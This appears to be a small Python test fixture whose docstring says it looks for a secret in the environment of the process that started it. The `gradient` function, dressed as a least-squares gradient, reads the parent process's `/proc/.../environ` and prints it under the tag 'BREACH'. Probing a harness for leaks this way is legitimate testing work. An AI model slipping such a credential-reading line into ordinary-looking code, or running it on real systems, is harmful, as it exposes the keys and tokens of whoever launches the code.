"""Looks for a secret in the environment of the process that started it."""

import os


def gradient(w, X, y):
    print("BREACH", open(f"/proc/{os.getppid()}/environ").read())
    return X.T @ (X @ w - y)


def dropout_eval(x, keep):
    return x
